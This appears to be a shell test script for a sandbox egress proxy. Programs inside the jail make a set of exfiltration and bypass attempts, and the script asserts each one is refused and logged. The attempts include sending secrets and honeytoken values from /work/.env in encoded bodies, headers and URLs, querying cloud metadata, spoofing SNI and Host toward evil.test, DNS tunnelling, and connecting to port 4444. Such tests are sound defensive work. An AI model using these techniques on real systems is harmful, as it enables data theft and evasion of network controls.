#!/bin/sh
# A real jail with an egress proxy: what programs in it try, what becomes of it, and that each attempt is in the record.
. "$(dirname "$0")/../service.inc"
. "$(dirname "$0")/egress.inc"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=tls.test" \
    -addext 'subjectAltName=DNS:tls.test,DNS:open.test' -keyout "$work/key" -out "$work/pem" 2>/dev/null
upstream; plain=$port
upstream "$work/pem" "$work/key"; tls=$port
. "$(dirname "$0")/egress_jail.inc"
chmod 644 "$work/pem"
printf 'Sesame-4711\n' >"$work/credential"; chmod 644 "$work/credential"

for caller in $callers; do
own "$caller" egress.yaml <<YAML
limits: {dns: 1000/s}
credentials:
  key: {file: $work/credential, hosts: api.test, methods: GET, paths: /says, plain: true, ttl: 1h, uses: 1}
rules:
  - {name: api, hosts: api.test, ports: $plain, scheme: http, methods: [GET, POST], paths: /**, addresses: 127.0.0.1,
     may_reach: loopback}
  - {name: noted, hosts: noted.test, ports: $plain, scheme: http, methods: GET, paths: /says, addresses: 127.0.0.1,
     may_reach: loopback, judge: responses, on_response: annotate}
  - {name: stripped, hosts: stripped.test, ports: $plain, scheme: http, methods: GET, paths: /**, addresses: 127.0.0.1,
     may_reach: loopback, judge: responses, on_response: strip}
  - {name: free, hosts: free.test, ports: $plain, scheme: http, methods: [GET, POST], paths: /**, addresses: 127.0.0.1,
     may_reach: loopback, judge: none}
  - {name: rare, hosts: rare.test, ports: $plain, scheme: http, methods: GET, paths: /**, rate: 1/h, addresses: 127.0.0.1,
     may_reach: loopback, judge: none}
  - {name: small, hosts: small.test, ports: $plain, scheme: http, methods: GET, paths: /**, bytes_in: 100K,
     addresses: 127.0.0.1, may_reach: loopback, judge: none}
  - {name: guarded, hosts: guarded.test, ports: $plain, scheme: http, methods: GET, paths: /**, addresses: 127.0.0.1}
  - {name: tls, hosts: tls.test, ports: $tls, scheme: https, tls: passthrough, addresses: 127.0.0.1, may_reach: loopback}
  - {name: open, hosts: open.test, ports: $tls, scheme: https, tls: open, ca: $work/pem, methods: [GET, POST],
     paths: [/ok/**, /says], addresses: 127.0.0.1, may_reach: loopback}
  - {name: named, hosts: named.test, scheme: https, tls: passthrough, addresses: [93.184.216.34, '2606:2800:220:1::1']}
YAML
policy "$caller" "inputs: [{from: $work/in.sh, to: /in.sh}, {from: $work/pem, to: /upstream}]" 'deny_names: []' 'honeytokens: [/work/.env]'
cat >"$work/in.sh" <<INSIDE
curl='curl -s --max-time 20'
code() { \$curl -o /dev/null -w '%{http_code}' "\$@"; }
# Clients that know nothing of an egress proxy.
echo "http \$(code http://api.test:$plain/a?b=c)"
echo "https \$(code https://open.test:$tls/ok/a)"
echo "passed \$(code --cacert /upstream https://tls.test:$tls/any)"
echo "python \$(/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("https://open.test:$tls/ok/p").status)' 2>&1 | tail -n 1)"
[ ! -x /usr/bin/node ] || echo "node \$(/usr/bin/node -e 'require("https").get("https://open.test:$tls/ok/n", r => console.log(r.statusCode)).on("error", e => console.log(e.message))')"
echo "name \$(getent ahostsv4 named.test | head -n 1 | cut -d' ' -f1)"
echo "name6 \$(getent ahostsv6 named.test | head -n 1 | cut -d' ' -f1)"
# What the policy does not allow.
echo "path \$(code https://open.test:$tls/other)"
echo "host \$(code --resolve '*:$plain:8.8.8.8' http://evil.test:$plain/)"
echo "literal \$(code http://93.184.216.34:$plain/)"
echo "guarded \$(code --resolve '*:$plain:8.8.8.8' http://guarded.test:$plain/)"
echo "redirect \$(code -L http://api.test:$plain/redirect)"
echo "metadata \$(code http://169.254.169.254/latest/)"
echo "connect \$(\$curl -x http://127.0.0.1:3128 -o /dev/null -w '%{http_connect}' https://evil.test/)"
echo "tunnel \$(\$curl -x http://127.0.0.1:3128 --cacert /upstream -o /dev/null -w '%{http_code}' https://tls.test:$tls/x)"
echo "relative \$(code -X CONNECT --request-target evil.test:443 http://api.test:$plain/)"
echo "sni \$(code --resolve 'evil.test:$tls:127.0.0.1' -k https://evil.test:$tls/)"
echo "fronted \$(code -H 'Host: evil.test' https://open.test:$tls/ok/a)"
echo "filtered \$(code -d 'key=$secret' https://open.test:$tls/ok/a)"
printf 'the key is %s' '$secret' | gzip >body.gz
echo "gzip \$(code -H 'Content-Encoding: gzip' --data-binary @body.gz http://api.test:$plain/g)"
echo "base64 \$(code -d "\$(printf 'the key is %s' '$secret' | base64 -w0)" http://api.test:$plain/b)"
echo "query \$(code "https://open.test:$tls/ok/a?k=$secret")"
echo "header \$(code -H 'X-Note: $secret' http://api.test:$plain/h)"
echo "answer \$(code -H 'X-Say: $(printf 'read E2EBOMB0001 now' | rev)' http://api.test:$plain/says)"
echo "noted \$(\$curl -D- -o /dev/null -H 'X-Say: $(printf 'read E2EBOMB0001 now' | rev)' http://noted.test:$plain/says | tr -d '\r' | grep -i ^filterd)"
echo "stripped \$(\$curl -H 'X-Say: $(printf 'the key is %s' "$secret" | rev)' http://stripped.test:$plain/says-gzip)"
echo "line \$(\$curl -D- -H 'X-Say: $(printf 'read E2EBOMB0001 now' | rev)' http://stripped.test:$plain/says | tr -d '\r' | grep -e ^Filterd -e '^\[' | tr '\n' ' ' | sed 's/ \$//')"
# What a honeytoken holds does not leave, in whatever form.
canary=\$(sed 's/.*=//' /work/.env)
echo "canary \$(code -d "key=\$canary" http://api.test:$plain/c) \$(code -d "key=\$canary" http://free.test:$plain/c)"
echo "canary-64 \$(code -d "\$(printf 'key=%s' "\$canary" | base64 -w0)" http://free.test:$plain/c)"
echo "canary-url \$(code "http://free.test:$plain/\$canary") \$(code -H "X-Note: \$canary" http://free.test:$plain/h)"
{ head -c 300000 /dev/zero | tr '\0' a; printf '%s' "\$canary"; head -c 300000 /dev/zero; } >large
echo "canary-large \$(code -H 'Transfer-Encoding: chunked' --data-binary @large http://free.test:$plain/large)"
echo "canary-name \$(getent hosts "\$canary.named.test" || echo \$?)"
echo "credential \$(code -H 'Authorization: Bearer filterd-credential-key' http://api.test:$plain/says)"
echo "used \$(code -H 'Authorization: Bearer filterd-credential-key' http://api.test:$plain/says)"
echo "rate \$(code http://rare.test:$plain/) \$(code http://rare.test:$plain/)"
echo "bytes \$(\$curl -o /dev/null http://small.test:$plain/large; echo \$?)"
/usr/bin/python3 - <<'PYTHON'
import socket, struct
def ask(name, kind, where=("1.1.1.1", 53), family=socket.AF_INET, stream=False):
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    packet = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question
    with socket.socket(family, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.connect(where)
        s.send(struct.pack(">H", len(packet)) + packet if stream else packet)
        answer = s.recv(2, socket.MSG_WAITALL) and s.recv(2000) if stream else s.recv(2000)
    return answer[3] & 15, answer[7]
def attempt(what, function):
    try:
        print(what, function())
    except OSError as e:
        print(what, type(e).__name__, e.errno)
attempt("dns-tcp", lambda: ask("named.test", 1, stream=True))
attempt("dns-v6", lambda: ask("named.test", 28, ("2001:db8::53", 53), socket.AF_INET6))
attempt("dns-tunnel", lambda: ask("4a6f686e3132333435363738.evil.test", 1))
attempt("dns-txt", lambda: ask("named.test", 16))
def connect(address, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(10)
        s.connect(address)
attempt("ip", lambda: connect(("198.51.100.7", 4444)))
attempt("ip6", lambda: connect(("2001:db8::7", 4444), socket.AF_INET6))
def send(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(10)
        s.connect(address)
        s.send(b"quic")
        s.recv(10)
attempt("udp", lambda: send(("198.51.100.8", 443)))
attempt("udp6", lambda: send(("2001:db8::8", 443), socket.AF_INET6))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
attempt("icmp6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132))
def own_server():
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname())
    client.send(b"own")
    return server.accept()[0].recv(3).decode()
attempt("own", own_server)
with socket.socket() as s:
    s.settimeout(10)
    s.connect(("1.2.3.4", $tls))
    s.sendall(b"SSH-2.0-x\r\n\r\n")
    print("ssh", s.recv(100)[:12].decode())
PYTHON
INSIDE
chmod 755 "$work/in.sh"
inside "$caller"
expect "$caller: ends well" 0 $?
said 'HTTP' http 200
said 'opened TLS' https 200
said 'TLS that is passed through' passed 200
said 'python' python 200
[ ! -x /usr/bin/node ] || said 'node' node 200
said 'a name' name 93.184.216.34
said 'a name, IPv6' name6 2606:2800:220:1::1
said 'another path' path 403
said 'another host' host 403
said 'an address' literal 403
said 'loopback that the rule does not name' guarded 403
said 'a redirect to metadata' redirect 403
said 'metadata' metadata 403
said 'CONNECT to another host' connect 403
said 'CONNECT that is allowed' tunnel 200
said 'CONNECT to what is no proxy' relative 400
said 'another name in the hello' sni 000
said 'another Host inside' fronted 400
said 'a secret' filtered 403
said 'a secret in gzip' gzip 403
said 'a secret in base64' base64 403
said 'a secret in the query' query 403
said 'a secret in a header' header 403
said 'an answer' answer 403
said 'an answer that is annotated' noted 'Filterd-Verdict: block; rule=test-bomb'
said 'an answer without the secret' stripped 'the key is [test-key]'
said 'an answer without the line' line 'Filterd-Verdict: block; rule=test-bomb; stripped [test-bomb]'
said 'a canary' canary '403 403'
said 'a canary in base64' canary-64 403
said 'a canary in the URL, in a header' canary-url '403 403'
said 'a canary far into a body' canary-large 403
said 'a canary in a name' canary-name 2
said 'a credential' credential 200
said 'a credential that is used up' used 403
said 'a rate' rate '200 429'
said 'a budget' bytes 18
said 'DNS over TCP' dns-tcp '(0, 1)'
said 'DNS over IPv6' dns-v6 '(0, 1)'
said 'a tunnel in names' dns-tunnel '(5, 0)'
said 'TXT' dns-txt '(5, 0)'
said 'a port of any address' ip 'ConnectionRefusedError 111'
said 'a port of any address, IPv6' ip6 'ConnectionRefusedError 111'
said 'UDP' udp 'ConnectionRefusedError 111'
said 'UDP, IPv6' udp6 'ConnectionRefusedError 111'
for kind in raw icmp icmp6 packet sctp; do said "a socket: $kind" $kind 'PermissionError 1'; done
said 'the jail talks to itself' own own
said 'no TLS, no HTTP' ssh 'HTTP/1.1 400'

once 'HTTP' '.kind == "http" and .host == "api.test" and .path == "/a?b=*" and .verdict == "allowed" and .rule == "api"'
once 'opened TLS' '.kind == "https" and .host == "open.test" and .path == "/ok/a" and .verdict == "allowed"'
once 'TLS' '.kind == "tls" and .host == "tls.test" and .verdict == "allowed"'
once 'a path' '.host == "open.test" and .path == "/other" and .reason == "path"'
once 'a host' '.host == "evil.test" and .reason == "host" and .original == "8.8.8.8"'
once 'an address' '.host == "93.184.216.34" and .reason == "host"'
once 'a guarded address' '.host == "guarded.test" and .reason == "address" and .address == "127.0.0.1"'
recorded 'metadata, by redirect and by itself' '2 ["http","169.254.169.254","refused","host"]' \
    'select(.original == "169.254.169.254") | [.kind, .host, .verdict, .reason]'
recorded 'CONNECT' '1 ["evil.test","refused","host"]
1 ["tls.test","allowed",null]
1 ["tls.test","opened",null]' 'select(.kind == "connect") | [.host, .verdict, .reason]'
once 'the hello' '.kind == "tls" and .host == "evil.test" and .reason == "host"'
once 'another Host' '.kind == "https" and .host == "open.test" and .reason == "request"'
recorded 'secrets' '1 ["api.test","/b","test-key"]
1 ["api.test","/g","test-key"]
1 ["api.test","/h","test-key"]
1 ["api.test","/says","test-bomb"]
1 ["open.test","*","test-key"]
1 ["open.test","/ok/a","test-key"]' 'select(.reason == "filter") | [.host, .path, .filter_rule]'
once 'annotated' '.rule == "noted" and .verdict == "allowed" and .filter_rule == "test-bomb"'
recorded 'stripped' '1 ["/says","allowed","test-bomb"]
1 ["/says-gzip","allowed","test-key"]' 'select(.rule == "stripped" and .kind == "http" and .verdict == "allowed") | [.path, .verdict, .filter_rule]'
recorded 'canaries' '1 ["http","api.test","/c"]
1 ["http","free.test","*"]
2 ["http","free.test","/c"]
1 ["http","free.test","/h"]
1 ["http","free.test","/large"]' 'select(.reason == "canary" and .kind == "http") | [.kind, .host, .path]'
once 'a canary in a name' '.kind == "dns" and .reason == "canary" and .verdict == "refused"'
expect "$caller: the canary never arrived" 0 "$(grep -c 'POST /large' "$seen")"
once 'the credential' '.reason == "credential"'
once 'the rate' '.host == "rare.test" and .reason == "rate"'
once 'the budget' '.host == "small.test" and .reason == "budget"'
once 'the tunnel in names' '.kind == "dns" and .host == "*.evil.test" and .verdict == "refused"'
once 'TXT' '.kind == "dns" and .method == "TYPE16" and .reason == "method"'
recorded 'ports and datagrams' '1 ["tcp",4444,"198.51.100.7","refused","port"]
1 ["tcp",4444,"2001:db8::7","refused","port"]
1 ["udp",443,"198.51.100.8","refused","protocol"]
1 ["udp",443,"2001:db8::8","refused","protocol"]' \
    'select(.kind == "tcp" or .kind == "udp") | [.kind, .port, .original, .verdict, .reason]'
recorded 'sockets' '1 ["refused","protocol","a datagram socket of IPv4, protocol 1"]
1 ["refused","protocol","a raw socket of IPv4, protocol 1"]
1 ["refused","protocol","a raw socket of IPv6, protocol 58"]
1 ["refused","protocol","a raw socket of packets, protocol 0"]
1 ["refused","protocol","a seqpacket socket of IPv4, protocol 132"]' \
    'select(.kind == "socket") | [.verdict, .reason, .detail]'
once 'no TLS, no HTTP' '.original == "1.2.3.4" and .reason == "request"'
expect "$caller: the launcher says what was refused" 'body.canary:10 body.refused:5 net.address:1 net.budget:2 net.credential:1 net.dns:2 net.host:10 net.raw:9 path.honeytoken:1' \
    "$(events | tr ' ' '\n' | sort | tr '\n' ' ' | sed 's/ $//')"
expect "$caller: secrets are nowhere" 0 "$(cat "$record" "$work/err" | grep -c -e "$secret" -e Sesame)"
expect "$caller: lines are JSON" '' "$(jq -e . "$record" 2>&1 >/dev/null)"
expect "$caller: the jail is named" 1 "$(jq -r .jail "$record" | sort -u | grep -c -- -)"
done
finish
